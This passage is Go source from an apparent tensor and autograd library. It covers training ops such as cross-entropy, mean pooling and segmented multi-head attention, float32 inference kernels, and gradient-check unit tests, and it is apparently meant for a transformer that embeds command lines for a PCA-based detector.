				m2 /= float64(n)
				ga := a.ensureGrad().Row(i)
				for j := range gy {
					t := gy[j] * gamma.Val.Data[j]
					ga[j] += invStd[i] * (t - m1 - xr[j]*m2)
				}
			}
		}
	}, a, gamma, beta)
	return out
}

// CrossEntropy computes the mean negative log-likelihood of the labels given
// row logits. Rows whose label equals ignoreIndex contribute nothing (used
// by masked-LM training, where unmasked positions are ignored). Returns a
// 1×1 tensor. When every label is ignored the loss is 0 with zero gradient.
func CrossEntropy(logits *Tensor, labels []int, ignoreIndex int) *Tensor {
	if len(labels) != logits.Val.Rows {
		panic(fmt.Sprintf("tensor: CrossEntropy %d labels for %d rows", len(labels), logits.Val.Rows))
	}
	probs := NewMatrix(logits.Val.Rows, logits.Val.Cols)
	count := 0
	loss := 0.0
	for i, lab := range labels {
		if lab == ignoreIndex {
			continue
		}
		if lab < 0 || lab >= logits.Val.Cols {
			panic(fmt.Sprintf("tensor: CrossEntropy label %d out of %d classes", lab, logits.Val.Cols))
		}
		softmaxInto(logits.Val.Row(i), probs.Row(i))
		p := probs.At(i, lab)
		if p < 1e-300 {
			p = 1e-300
		}
		loss -= math.Log(p)
		count++
	}
	val := NewMatrix(1, 1)
	if count > 0 {
		val.Data[0] = loss / float64(count)
	}
	labs := make([]int, len(labels))
	copy(labs, labels)
	var out *Tensor
	out = newNode("xent", val, func() {
		if !logits.needGrad || count == 0 {
			return
		}
		g := logits.ensureGrad()
		scale := out.Grad.Data[0] / float64(count)
		for i, lab := range labs {
			if lab == ignoreIndex {
				continue
			}
			grow := g.Row(i)
			prow := probs.Row(i)
			for j, p := range prow {
				grow[j] += scale * p
			}
			grow[lab] -= scale
		}
	}, logits)
	return out
}

// MeanPool averages token rows into one row per segment: x is
// [sum(lens), n] where segment s owns lens[s] consecutive rows; the result
// is [len(lens), n]. Rows beyond a segment's length do not exist (callers
// pass only real tokens). This is the command-line embedding f(t) used by
// the PCA detector (§III).
func MeanPool(x *Tensor, lens []int) *Tensor {
	total := 0
	for _, l := range lens {
		if l <= 0 {
			panic("tensor: MeanPool segment length must be positive")
		}
		total += l
	}
	if total != x.Val.Rows {
		panic(fmt.Sprintf("tensor: MeanPool lens sum %d != %d rows", total, x.Val.Rows))
	}
	val := NewMatrix(len(lens), x.Val.Cols)
	offs := make([]int, len(lens))
	off := 0
	for s, l := range lens {
		offs[s] = off
		dst := val.Row(s)
		for r := off; r < off+l; r++ {
			src := x.Val.Row(r)
			for j, v := range src {
				dst[j] += v
			}
		}
		inv := 1 / float64(l)
		for j := range dst {
			dst[j] *= inv
		}
		off += l
	}
	segLens := make([]int, len(lens))
	copy(segLens, lens)
	var out *Tensor
	out = newNode("meanpool", val, func() {
		if !x.needGrad {
			return
		}
		g := x.ensureGrad()
		for s, l := range segLens {
			inv := 1 / float64(l)
			grow := out.Grad.Row(s)
			for r := offs[s]; r < offs[s]+l; r++ {
				dst := g.Row(r)
				for j, v := range grow {
					dst[j] += v * inv
				}
			}
		}
	}, x)
	return out
}

// Attention is the fused multi-head scaled-dot-product attention used by the
// transformer encoder. q, k, v are [sum(lens), hidden] where each sequence s
// owns lens[s] consecutive rows. heads must divide hidden. The output has
// the same shape as q. Attention never crosses sequence boundaries, which
// implements per-line isolation without padding.
func Attention(q, k, v *Tensor, heads int, lens []int) *Tensor {
	hidden := q.Val.Cols
	if hidden%heads != 0 {
		panic(fmt.Sprintf("tensor: hidden %d not divisible by heads %d", hidden, heads))
	}
	if !q.Val.SameShape(k.Val) || !q.Val.SameShape(v.Val) {
		panic("tensor: Attention q/k/v shape mismatch")
	}
	total := 0
	for _, l := range lens {
		if l <= 0 {
			panic("tensor: Attention sequence length must be positive")
		}
		total += l
	}
	if total != q.Val.Rows {
		panic(fmt.Sprintf("tensor: Attention lens sum %d != %d rows", total, q.Val.Rows))
	}
	d := hidden / heads
	scale := 1 / math.Sqrt(float64(d))

	val := NewMatrix(q.Val.Rows, hidden)
	// attn[s][h] is the [S,S] post-softmax attention matrix, saved for the
	// backward pass.
	attn := make([][][]float64, len(lens))

	off := 0
	for s, S := range lens {
		attn[s] = make([][]float64, heads)
		for h := 0; h < heads; h++ {
			hOff := h * d
			A := make([]float64, S*S)
			// scores = Q·Kᵀ·scale, then row softmax.
			for i := 0; i < S; i++ {
				qrow := q.Val.Row(off + i)[hOff : hOff+d]
				srow := A[i*S : (i+1)*S]
				for j := 0; j < S; j++ {
					krow := k.Val.Row(off + j)[hOff : hOff+d]
					dot := 0.0
					for c := 0; c < d; c++ {
						dot += qrow[c] * krow[c]
					}
					srow[j] = dot * scale
				}
				softmaxInto(srow, srow)
			}
			attn[s][h] = A
			// out = A·V
			for i := 0; i < S; i++ {
				arow := A[i*S : (i+1)*S]
				orow := val.Row(off + i)[hOff : hOff+d]
				for j, a := range arow {
					if a == 0 {
						continue
					}
					vrow := v.Val.Row(off + j)[hOff : hOff+d]
					for c := 0; c < d; c++ {
						orow[c] += a * vrow[c]
					}
				}
			}
		}
		off += S
	}
	segLens := make([]int, len(lens))
	copy(segLens, lens)

	var out *Tensor
	out = newNode("attention", val, func() {
		var gq, gk, gv *Matrix
		if q.needGrad {
			gq = q.ensureGrad()
		}
		if k.needGrad {
			gk = k.ensureGrad()
		}
		if v.needGrad {
			gv = v.ensureGrad()
		}
		off := 0
		dA := make([]float64, 0)
		for s, S := range segLens {
			if cap(dA) < S*S {
				dA = make([]float64, S*S)
			}
			dA = dA[:S*S]
			for h := 0; h < heads; h++ {
				hOff := h * d
				A := attn[s][h]
				// dA = dOut·Vᵀ ; dV += Aᵀ·dOut
				for i := 0; i < S; i++ {
					gorow := out.Grad.Row(off + i)[hOff : hOff+d]
					darow := dA[i*S : (i+1)*S]
					for j := 0; j < S; j++ {
						vrow := v.Val.Row(off + j)[hOff : hOff+d]
						dot := 0.0
						for c := 0; c < d; c++ {
							dot += gorow[c] * vrow[c]
						}
						darow[j] = dot
					}
					if gv != nil {
						arow := A[i*S : (i+1)*S]
						for j, a := range arow {
							if a == 0 {
								continue
							}
							gvrow := gv.Row(off + j)[hOff : hOff+d]
							for c := 0; c < d; c++ {
								gvrow[c] += a * gorow[c]
							}
						}
					}
				}
				// dS = A ⊙ (dA - rowsum(dA ⊙ A)); then dQ, dK.
				for i := 0; i < S; i++ {
					arow := A[i*S : (i+1)*S]
					darow := dA[i*S : (i+1)*S]
					dot := 0.0
					for j := range arow {
						dot += arow[j] * darow[j]
					}
					for j := range arow {
						darow[j] = arow[j] * (darow[j] - dot)
					}
				}
				if gq != nil {
					for i := 0; i < S; i++ {
						darow := dA[i*S : (i+1)*S]
						gqrow := gq.Row(off + i)[hOff : hOff+d]
						for j, ds := range darow {
							if ds == 0 {
								continue
							}
							krow := k.Val.Row(off + j)[hOff : hOff+d]
							f := ds * scale
							for c := 0; c < d; c++ {
								gqrow[c] += f * krow[c]
							}
						}
					}
				}
				if gk != nil {
					for i := 0; i < S; i++ {
						darow := dA[i*S : (i+1)*S]
						qrow := q.Val.Row(off + i)[hOff : hOff+d]
						for j, ds := range darow {
							if ds == 0 {
								continue
							}
							gkrow := gk.Row(off + j)[hOff : hOff+d]
							f := ds * scale
							for c := 0; c < d; c++ {
								gkrow[c] += f * qrow[c]
							}
						}
					}
				}
			}
			off += S
		}
	}, q, k, v)
	return out
}
