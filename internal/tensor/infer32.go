package tensor

import (
	"fmt"
	"math"
)

// Float32 mirrors of the forward-only inference kernels (infer.go) — the
// middle rung of the precision ladder. The arithmetic structure (loop
// order, blocking, fused attention layout) is identical to the float64
// kernels; only the element type narrows, which halves the memory
// bandwidth the pure-Go GEMM is bound by. Transcendentals (GELU's tanh,
// softmax's exp) run through the fastExp32/fastTanh32 approximations,
// whose ~3e-7 relative error is far below float32 rounding noise. Scores
// from this path deviate from float64 by O(1e-6) relative per layer; the
// float64 kernels remain the bitwise-golden reference.

// InferMatMulInto32 computes out = a·b serially with the tiled float32
// kernel, overwriting out.
func InferMatMulInto32(a, b, out *Matrix32) {
	if a.Cols != b.Rows || out.Rows != a.Rows || out.Cols != b.Cols {
		panic(fmt.Sprintf("tensor: InferMatMul32 shapes %dx%d · %dx%d -> %dx%d",
			a.Rows, a.Cols, b.Rows, b.Cols, out.Rows, out.Cols))
	}
	out.Zero()
	matMulRows32(a, b, out, 0, a.Rows)
}

// InferLinearInto32 computes out = x·w + bias (bias broadcast over rows;
// may be nil), matching InferLinearInto's order: matmul first, bias after.
func InferLinearInto32(x, w, bias, out *Matrix32) {
	InferMatMulInto32(x, w, out)
	if bias == nil {
		return
	}
	if bias.Rows != 1 || bias.Cols != out.Cols {
		panic(fmt.Sprintf("tensor: InferLinear32 bias %dx%d for %d-wide output",
			bias.Rows, bias.Cols, out.Cols))
	}
	for i := 0; i < out.Rows; i++ {
		row := out.Row(i)
		for j, bv := range bias.Data {
			row[j] += bv
		}
	}
}

// InferLayerNormInto32 normalizes each row of x and applies gamma/beta
// (both 1×n), writing into out; out may alias x. Mean and variance
// accumulate in float32 — over the hidden widths this model family uses
// (≤ 4096) the accumulation error is O(n·ulp), well inside the path's
// stated tolerance.
func InferLayerNormInto32(x, gamma, beta *Matrix32, eps float64, out *Matrix32) {
	n := x.Cols
	if gamma.Rows != 1 || gamma.Cols != n || beta.Rows != 1 || beta.Cols != n {
		panic(fmt.Sprintf("tensor: InferLayerNorm32 params must be 1x%d", n))
	}
	if out.Rows != x.Rows || out.Cols != n {
		panic(fmt.Sprintf("tensor: InferLayerNorm32 out %dx%d for %dx%d input",
			out.Rows, out.Cols, x.Rows, n))
	}
	eps32 := float32(eps)
	for i := 0; i < x.Rows; i++ {
		row := x.Row(i)
		mean := float32(0)
		for _, v := range row {
			mean += v
		}
		mean /= float32(n)
		varr := float32(0)
		for _, v := range row {
			d := v - mean
			varr += d * d
		}
		varr /= float32(n)
		is := 1 / sqrt32(varr+eps32)
		dst := out.Row(i)
		for j, v := range row {
			dst[j] = (v-mean)*is*gamma.Data[j] + beta.Data[j]
		}
	}
}

// sqrt32 is float32 sqrt. math.Sqrt is a compiler intrinsic, so the
// widen-sqrt-narrow sequence stays in registers (SQRTSD + conversions),
// with no call in the LayerNorm inner loop.
func sqrt32(x float32) float32 {
	return float32(math.Sqrt(float64(x)))
}

// InferGELUInPlace32 applies the tanh-approximated GELU elementwise in
// place — vectorized where the host supports it, fastTanh32 otherwise.
func InferGELUInPlace32(x *Matrix32) {
	geluInPlace(x.Data)
}

// InferAttentionInto32 is the float32 fused multi-head attention forward;
// the layout contract matches InferAttentionInto (q/k/v are [sum(lens),
// hidden], sequences own consecutive rows, attention never crosses
// sequence boundaries). scores is caller-owned scratch with capacity ≥
// max(lens)²; kt and vh are per-head panel scratch with capacity ≥
// max(lens)·(hidden/heads). Per head the kernel transposes K into kt
// (d×S) and copies V's head columns into vh (S×d, contiguous), turning
// both the score rows and the output rows into f32MatVec calls — the same
// FMA kernel the linear layers run on.
func InferAttentionInto32(q, k, v *Matrix32, heads int, lens []int, scores, kt, vh []float32, out *Matrix32) {
	hidden := q.Cols
	if hidden%heads != 0 {
		panic(fmt.Sprintf("tensor: hidden %d not divisible by heads %d", hidden, heads))
	}
	if !q.SameShape(k) || !q.SameShape(v) || !q.SameShape(out) {
		panic("tensor: InferAttention32 q/k/v/out shape mismatch")
	}
	total, maxS := 0, 0
	for _, l := range lens {
		if l <= 0 {
			panic("tensor: InferAttention32 sequence length must be positive")
		}
		total += l
		if l > maxS {
			maxS = l
		}
	}
	if total != q.Rows {
		panic(fmt.Sprintf("tensor: InferAttention32 lens sum %d != %d rows", total, q.Rows))
	}
	d := hidden / heads
	if len(scores) < maxS*maxS {
		panic(fmt.Sprintf("tensor: InferAttention32 scratch %d < %d", len(scores), maxS*maxS))
	}
	if len(kt) < maxS*d || len(vh) < maxS*d {
		panic(fmt.Sprintf("tensor: InferAttention32 head scratch %d/%d < %d", len(kt), len(vh), maxS*d))
	}
	scale := 1 / sqrt32(float32(d))

	out.Zero()
	off := 0
	for _, S := range lens {
		for h := 0; h < heads; h++ {
			hOff := h * d
			// Gather this head's K as d×S (kt) and V as S×d (vh).
			for j := 0; j < S; j++ {
				krow := k.Row(off + j)[hOff : hOff+d]
				vrow := v.Row(off + j)[hOff : hOff+d]
				for c, kv := range krow {
					kt[c*S+j] = kv
				}
				copy(vh[j*d:(j+1)*d], vrow)
			}
			A := scores[:S*S]
			for i := 0; i < S; i++ {
				qrow := q.Row(off + i)[hOff : hOff+d]
				srow := A[i*S : (i+1)*S]
				for j := range srow {
					srow[j] = 0
				}
				f32MatVec(qrow, kt[:d*S], srow) // srow[j] = q·k_j
				for j := range srow {
					srow[j] *= scale
				}
				softmaxInto32(srow, srow)
				// orow[c] += Σ_j a_j·v_j[c]; out was zeroed above.
				f32MatVec(srow, vh[:S*d], out.Row(off + i)[hOff:hOff+d])
			}
		}
		off += S
	}
}

// InferMeanPoolInto32 average-pools token rows of x into one float64 row
// per segment, widening as it accumulates: the pooled embedding is the
// boundary back to the canonical float64 world (LRU cache, detector heads),
// so the sum runs in float64 to spend no extra precision at the hand-off.
func InferMeanPoolInto32(x *Matrix32, lens []int, dst *Matrix, dstRow int) {
	total := 0
	for _, l := range lens {
		if l <= 0 {
			panic("tensor: InferMeanPool32 segment length must be positive")
		}
		total += l
	}
	if total != x.Rows {
		panic(fmt.Sprintf("tensor: InferMeanPool32 lens sum %d != %d rows", total, x.Rows))
	}
	if dst.Cols != x.Cols || dstRow < 0 || dstRow+len(lens) > dst.Rows {
		panic(fmt.Sprintf("tensor: InferMeanPool32 dst %dx%d cannot hold %d segments at row %d",
			dst.Rows, dst.Cols, len(lens), dstRow))
	}
	off := 0
	for s, l := range lens {
		out := dst.Row(dstRow + s)
		for j := range out {
			out[j] = 0
		}
		for r := off; r < off+l; r++ {
			src := x.Row(r)
			for j, v := range src {
				out[j] += float64(v)
			}
		}
		inv := 1 / float64(l)
		for j := range out {
			out[j] *= inv
		}
		off += l
	}
}
