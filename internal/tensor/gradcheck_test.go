package tensor

import (
	"math"
	"math/rand"
	"testing"
)

// checkGrad verifies the analytic gradient of every parameter against a
// central finite difference of the scalar produced by build. build must
// construct a fresh graph from the shared leaf tensors on every call.
func checkGrad(t *testing.T, name string, params []*Tensor, build func() *Tensor) {
	t.Helper()
	const eps = 1e-5
	const tol = 1e-4

	for _, p := range params {
		p.Grad = nil
	}
	loss := build()
	if err := loss.Backward(); err != nil {
		t.Fatalf("%s: Backward: %v", name, err)
	}
	for pi, p := range params {
		analytic := NewMatrix(p.Val.Rows, p.Val.Cols)
		if p.Grad != nil {
			copy(analytic.Data, p.Grad.Data)
		}
		for i := range p.Val.Data {
			orig := p.Val.Data[i]
			p.Val.Data[i] = orig + eps
			up := build().Item()
			p.Val.Data[i] = orig - eps
			down := build().Item()
			p.Val.Data[i] = orig
			numeric := (up - down) / (2 * eps)
			got := analytic.Data[i]
			denom := math.Max(1, math.Max(math.Abs(numeric), math.Abs(got)))
			if math.Abs(got-numeric)/denom > tol {
				t.Errorf("%s: param %d elem %d: analytic %.8f vs numeric %.8f",
					name, pi, i, got, numeric)
			}
		}
	}
}

func randVar(r *rand.Rand, rows, cols int) *Tensor {
	return Var(randMatrix(r, rows, cols))
}

func TestGradMatMul(t *testing.T) {
	r := rand.New(rand.NewSource(10))
	a := randVar(r, 3, 4)
	b := randVar(r, 4, 2)
	checkGrad(t, "matmul", []*Tensor{a, b}, func() *Tensor {
		return SumAll(MatMulT(a, b))
	})
}

func TestGradAddSubMulDiv(t *testing.T) {
	r := rand.New(rand.NewSource(11))
	a := randVar(r, 3, 3)
	b := randVar(r, 3, 3)
	// Keep divisors away from zero.
	for i := range b.Val.Data {
		b.Val.Data[i] = 1.5 + math.Abs(b.Val.Data[i])
	}
	checkGrad(t, "add", []*Tensor{a, b}, func() *Tensor { return SumAll(Add(a, b)) })
	checkGrad(t, "sub", []*Tensor{a, b}, func() *Tensor { return SumAll(Sub(a, b)) })
	checkGrad(t, "mul", []*Tensor{a, b}, func() *Tensor { return SumAll(Mul(a, b)) })
	checkGrad(t, "div", []*Tensor{a, b}, func() *Tensor { return SumAll(Div(a, b)) })
}

func TestGradScaleAddRowVecTranspose(t *testing.T) {
	r := rand.New(rand.NewSource(12))
	a := randVar(r, 4, 3)
	v := randVar(r, 1, 3)
	checkGrad(t, "scale", []*Tensor{a}, func() *Tensor { return SumAll(Scale(a, -2.5)) })
	checkGrad(t, "addrow", []*Tensor{a, v}, func() *Tensor {
		return SumAll(Mul(AddRowVec(a, v), AddRowVec(a, v)))
	})
	checkGrad(t, "transpose", []*Tensor{a}, func() *Tensor {
		return SumAll(Mul(Transpose(a), Transpose(a)))
	})
}

func TestGradGatherRows(t *testing.T) {
	r := rand.New(rand.NewSource(13))
	a := randVar(r, 5, 3)
	idx := []int{0, 2, 2, 4} // repetition exercises scatter-accumulate
	checkGrad(t, "gather", []*Tensor{a}, func() *Tensor {
		g := GatherRows(a, idx)
		return SumAll(Mul(g, g))
	})
}

func TestGradReductions(t *testing.T) {
	r := rand.New(rand.NewSource(14))
	a := randVar(r, 3, 4)
	checkGrad(t, "rowsum", []*Tensor{a}, func() *Tensor {
		rs := RowSum(a)
		return SumAll(Mul(rs, rs))
	})
	checkGrad(t, "meanall", []*Tensor{a}, func() *Tensor {
		return Mul(MeanAll(a), MeanAll(a))
	})
}

func TestGradActivations(t *testing.T) {
	r := rand.New(rand.NewSource(15))
	a := randVar(r, 3, 4)
	checkGrad(t, "tanh", []*Tensor{a}, func() *Tensor { return SumAll(Tanh(a)) })
	checkGrad(t, "sigmoid", []*Tensor{a}, func() *Tensor { return SumAll(Sigmoid(a)) })
	checkGrad(t, "gelu", []*Tensor{a}, func() *Tensor { return SumAll(GELU(a)) })

	// ReLU: keep inputs away from the kink at zero.
	b := randVar(r, 3, 4)
	for i := range b.Val.Data {
		if math.Abs(b.Val.Data[i]) < 0.1 {
			b.Val.Data[i] = 0.5
		}
	}
	checkGrad(t, "relu", []*Tensor{b}, func() *Tensor { return SumAll(ReLU(b)) })

	// Log: positive inputs only.
	c := randVar(r, 3, 4)
	for i := range c.Val.Data {
		c.Val.Data[i] = 0.5 + math.Abs(c.Val.Data[i])
	}
	checkGrad(t, "log", []*Tensor{c}, func() *Tensor { return SumAll(Log(c)) })
}

func TestGradSoftmax(t *testing.T) {
	r := rand.New(rand.NewSource(16))
	a := randVar(r, 3, 5)
	w := Const(randMatrix(r, 3, 5)) // random projection makes the test sharp
	checkGrad(t, "softmax", []*Tensor{a}, func() *Tensor {
		return SumAll(Mul(SoftmaxRows(a), w))
	})
}

func TestGradLayerNorm(t *testing.T) {
	r := rand.New(rand.NewSource(17))
	a := randVar(r, 3, 6)
	gamma := randVar(r, 1, 6)
	beta := randVar(r, 1, 6)
	w := Const(randMatrix(r, 3, 6))
	checkGrad(t, "layernorm", []*Tensor{a, gamma, beta}, func() *Tensor {
		return SumAll(Mul(LayerNorm(a, gamma, beta, 1e-5), w))
	})
}

func TestGradCrossEntropy(t *testing.T) {
	r := rand.New(rand.NewSource(18))
	logits := randVar(r, 5, 4)
	labels := []int{2, -100, 0, 3, -100} // -100 rows must be ignored
	checkGrad(t, "xent", []*Tensor{logits}, func() *Tensor {
		return CrossEntropy(logits, labels, -100)
	})
}

func TestCrossEntropyAllIgnored(t *testing.T) {
	r := rand.New(rand.NewSource(19))
	logits := randVar(r, 3, 4)
	loss := CrossEntropy(logits, []int{-100, -100, -100}, -100)
	if loss.Item() != 0 {
		t.Fatalf("loss = %v, want 0", loss.Item())
	}
	if err := loss.Backward(); err != nil {
		t.Fatalf("Backward: %v", err)
	}
}

func TestGradMeanPool(t *testing.T) {
	r := rand.New(rand.NewSource(20))
	x := randVar(r, 7, 3) // segments of 3, 2, 2
	w := Const(randMatrix(r, 3, 3))
	checkGrad(t, "meanpool", []*Tensor{x}, func() *Tensor {
		return SumAll(Mul(MeanPool(x, []int{3, 2, 2}), w))
	})
}

func TestGradAttention(t *testing.T) {
	r := rand.New(rand.NewSource(21))
	// Two sequences of lengths 3 and 2, hidden 4, 2 heads.
	q := randVar(r, 5, 4)
	k := randVar(r, 5, 4)
	v := randVar(r, 5, 4)
	w := Const(randMatrix(r, 5, 4))
	checkGrad(t, "attention", []*Tensor{q, k, v}, func() *Tensor {
		return SumAll(Mul(Attention(q, k, v, 2, []int{3, 2}), w))
	})
}

func TestGradDropout(t *testing.T) {
	r := rand.New(rand.NewSource(22))
	a := randVar(r, 4, 4)
	// A replayable source keeps the mask identical across rebuilds, which is
	// what finite differencing requires.
	seq := make([]float64, 64)
	rr := rand.New(rand.NewSource(99))
	for i := range seq {
		seq[i] = rr.Float64()
	}
	src := &replaySource{seq: seq}
	checkGrad(t, "dropout", []*Tensor{a}, func() *Tensor {
		src.i = 0
		return SumAll(Dropout(a, 0.3, src))
	})
}

type replaySource struct {
	seq []float64
	i   int
}

func (s *replaySource) Float64() float64 {
	v := s.seq[s.i%len(s.seq)]
	s.i++
	return v
}

func TestGradSharedTensorAccumulates(t *testing.T) {
	// One tensor feeding two consumers must receive the sum of both
	// gradient paths — the pattern used by tied MLM decoder weights.
	r := rand.New(rand.NewSource(23))
	e := randVar(r, 4, 3)
	idx := []int{1, 3, 0}
	checkGrad(t, "shared", []*Tensor{e}, func() *Tensor {
		h := GatherRows(e, idx)            // use 1: embedding lookup
		logits := MatMulT(h, Transpose(e)) // use 2: tied decoder
		return CrossEntropy(logits, []int{0, 2, 1}, -100)
	})
}

func TestBackwardErrors(t *testing.T) {
	a := Var(NewMatrix(2, 2))
	if err := SumAll(Mul(a, a)).Backward(); err != nil {
		t.Errorf("scalar backward should work: %v", err)
	}
	if err := Mul(a, a).Backward(); err == nil {
		t.Error("non-scalar Backward should error")
	}
	c := Const(NewMatrix(1, 1))
	if err := c.Backward(); err == nil {
		t.Error("Backward on constant should error")
	}
}

func TestDetachCutsGraph(t *testing.T) {
	r := rand.New(rand.NewSource(24))
	a := randVar(r, 2, 2)
	d := Mul(a, a).Detach()
	if d.NeedsGrad() {
		t.Fatal("Detach should not require grad")
	}
	loss := SumAll(Mul(d, d))
	if loss.NeedsGrad() {
		t.Fatal("loss over detached tensor should not need grad")
	}
}

func TestDropoutEdgeCases(t *testing.T) {
	a := Var(FromSlice(1, 4, []float64{1, 2, 3, 4}))
	if got := Dropout(a, 0, nil); got != a {
		t.Error("p=0 must return the input unchanged")
	}
}

func TestZeroGradAndReuse(t *testing.T) {
	r := rand.New(rand.NewSource(25))
	a := randVar(r, 2, 3)
	loss := SumAll(Mul(a, a))
	if err := loss.Backward(); err != nil {
		t.Fatal(err)
	}
	first := a.Grad.Clone()
	// Second backward without zeroing accumulates.
	loss2 := SumAll(Mul(a, a))
	if err := loss2.Backward(); err != nil {
		t.Fatal(err)
	}
	for i := range first.Data {
		if math.Abs(a.Grad.Data[i]-2*first.Data[i]) > 1e-12 {
			t.Fatalf("gradient did not accumulate: %v vs %v", a.Grad.Data[i], 2*first.Data[i])
		}
	}
	a.ZeroGrad()
	if a.Grad.Norm2() != 0 {
		t.Fatal("ZeroGrad did not clear")
	}
}
