package tensor

import (
	"fmt"
	"math"
)

// MatMulT computes a·b with gradient support.
func MatMulT(a, b *Tensor) *Tensor {
	val := MatMul(a.Val, b.Val)
	var out *Tensor
	out = newNode("matmul", val, func() {
		if a.needGrad {
			MatMulABTInto(out.Grad, b.Val, a.ensureGrad()) // dA += dOut·Bᵀ
		}
		if b.needGrad {
			MatMulATBInto(a.Val, out.Grad, b.ensureGrad()) // dB += Aᵀ·dOut
		}
	}, a, b)
	return out
}

// Add computes a+b elementwise (same shape).
func Add(a, b *Tensor) *Tensor {
	if !a.Val.SameShape(b.Val) {
		panic(fmt.Sprintf("tensor: Add shape mismatch %dx%d vs %dx%d",
			a.Val.Rows, a.Val.Cols, b.Val.Rows, b.Val.Cols))
	}
	val := a.Val.Clone()
	val.AddInPlace(b.Val)
	var out *Tensor
	out = newNode("add", val, func() {
		if a.needGrad {
			a.ensureGrad().AddInPlace(out.Grad)
		}
		if b.needGrad {
			b.ensureGrad().AddInPlace(out.Grad)
		}
	}, a, b)
	return out
}

// Sub computes a-b elementwise.
func Sub(a, b *Tensor) *Tensor {
	if !a.Val.SameShape(b.Val) {
		panic(fmt.Sprintf("tensor: Sub shape mismatch %dx%d vs %dx%d",
			a.Val.Rows, a.Val.Cols, b.Val.Rows, b.Val.Cols))
	}
	val := a.Val.Clone()
	val.AxpyInPlace(-1, b.Val)
	var out *Tensor
	out = newNode("sub", val, func() {
		if a.needGrad {
			a.ensureGrad().AddInPlace(out.Grad)
		}
		if b.needGrad {
			b.ensureGrad().AxpyInPlace(-1, out.Grad)
		}
	}, a, b)
	return out
}

// Mul computes the elementwise (Hadamard) product.
func Mul(a, b *Tensor) *Tensor {
	if !a.Val.SameShape(b.Val) {
		panic(fmt.Sprintf("tensor: Mul shape mismatch %dx%d vs %dx%d",
			a.Val.Rows, a.Val.Cols, b.Val.Rows, b.Val.Cols))
	}
	val := NewMatrix(a.Val.Rows, a.Val.Cols)
	for i := range val.Data {
		val.Data[i] = a.Val.Data[i] * b.Val.Data[i]
	}
	var out *Tensor
	out = newNode("mul", val, func() {
		if a.needGrad {
			g := a.ensureGrad()
			for i := range g.Data {
				g.Data[i] += out.Grad.Data[i] * b.Val.Data[i]
			}
		}
		if b.needGrad {
			g := b.ensureGrad()
			for i := range g.Data {
				g.Data[i] += out.Grad.Data[i] * a.Val.Data[i]
			}
		}
	}, a, b)
	return out
}

// Div computes a/b elementwise. b must be nonzero everywhere.
func Div(a, b *Tensor) *Tensor {
	if !a.Val.SameShape(b.Val) {
		panic(fmt.Sprintf("tensor: Div shape mismatch %dx%d vs %dx%d",
			a.Val.Rows, a.Val.Cols, b.Val.Rows, b.Val.Cols))
	}
	val := NewMatrix(a.Val.Rows, a.Val.Cols)
	for i := range val.Data {
		val.Data[i] = a.Val.Data[i] / b.Val.Data[i]
	}
	var out *Tensor
	out = newNode("div", val, func() {
		if a.needGrad {
			g := a.ensureGrad()
			for i := range g.Data {
				g.Data[i] += out.Grad.Data[i] / b.Val.Data[i]
			}
		}
		if b.needGrad {
			g := b.ensureGrad()
			for i := range g.Data {
				bv := b.Val.Data[i]
				g.Data[i] -= out.Grad.Data[i] * a.Val.Data[i] / (bv * bv)
			}
		}
	}, a, b)
	return out
}

// Scale multiplies every element by the constant s.
func Scale(a *Tensor, s float64) *Tensor {
	val := a.Val.Clone()
	val.ScaleInPlace(s)
	var out *Tensor
	out = newNode("scale", val, func() {
		if a.needGrad {
			a.ensureGrad().AxpyInPlace(s, out.Grad)
		}
	}, a)
	return out
}

// AddRowVec adds the 1×n row vector v to every row of a (bias broadcast).
func AddRowVec(a, v *Tensor) *Tensor {
	if v.Val.Rows != 1 || v.Val.Cols != a.Val.Cols {
		panic(fmt.Sprintf("tensor: AddRowVec %dx%d + %dx%d",
			a.Val.Rows, a.Val.Cols, v.Val.Rows, v.Val.Cols))
	}
	val := a.Val.Clone()
	for i := 0; i < val.Rows; i++ {
		row := val.Row(i)
		for j, b := range v.Val.Data {
			row[j] += b
		}
	}
	var out *Tensor
	out = newNode("addrow", val, func() {
		if a.needGrad {
			a.ensureGrad().AddInPlace(out.Grad)
		}
		if v.needGrad {
			g := v.ensureGrad()
			for i := 0; i < out.Grad.Rows; i++ {
				row := out.Grad.Row(i)
				for j, gv := range row {
					g.Data[j] += gv
				}
			}
		}
	}, a, v)
	return out
}

// Transpose returns aᵀ.
func Transpose(a *Tensor) *Tensor {
	val := TransposeOf(a.Val)
	var out *Tensor
	out = newNode("transpose", val, func() {
		if a.needGrad {
			a.ensureGrad().AddInPlace(TransposeOf(out.Grad))
		}
	}, a)
	return out
}

// GatherRows selects rows of a by index (with repetition allowed); the
// gradient scatters (accumulates) back. Used for embedding lookup and for
// extracting [CLS] positions.
func GatherRows(a *Tensor, idx []int) *Tensor {
	val := NewMatrix(len(idx), a.Val.Cols)
	for i, r := range idx {
		if r < 0 || r >= a.Val.Rows {
			panic(fmt.Sprintf("tensor: GatherRows index %d out of %d rows", r, a.Val.Rows))
		}
		copy(val.Row(i), a.Val.Row(r))
	}
	rows := make([]int, len(idx))
	copy(rows, idx)
	var out *Tensor
	out = newNode("gather", val, func() {
		if !a.needGrad {
			return
		}
		g := a.ensureGrad()
		for i, r := range rows {
			grow := g.Row(r)
			srow := out.Grad.Row(i)
			for j, v := range srow {
				grow[j] += v
			}
		}
	}, a)
	return out
}

// RowSum reduces each row to its sum: [m,n] -> [m,1].
func RowSum(a *Tensor) *Tensor {
	val := NewMatrix(a.Val.Rows, 1)
	for i := 0; i < a.Val.Rows; i++ {
		s := 0.0
		for _, v := range a.Val.Row(i) {
			s += v
		}
		val.Data[i] = s
	}
	var out *Tensor
	out = newNode("rowsum", val, func() {
		if !a.needGrad {
			return
		}
		g := a.ensureGrad()
		for i := 0; i < g.Rows; i++ {
			gv := out.Grad.Data[i]
			row := g.Row(i)
			for j := range row {
				row[j] += gv
			}
		}
	}, a)
	return out
}

// SumAll reduces the whole matrix to a 1×1 scalar.
func SumAll(a *Tensor) *Tensor {
	s := 0.0
	for _, v := range a.Val.Data {
		s += v
	}
	val := NewMatrix(1, 1)
	val.Data[0] = s
	var out *Tensor
	out = newNode("sumall", val, func() {
		if !a.needGrad {
			return
		}
		g := a.ensureGrad()
		gv := out.Grad.Data[0]
		for i := range g.Data {
			g.Data[i] += gv
		}
	}, a)
	return out
}

// MeanAll reduces the whole matrix to its mean as a 1×1 scalar.
func MeanAll(a *Tensor) *Tensor {
	n := len(a.Val.Data)
	return Scale(SumAll(a), 1/float64(n))
}

// Log applies the natural logarithm elementwise; inputs must be positive.
func Log(a *Tensor) *Tensor {
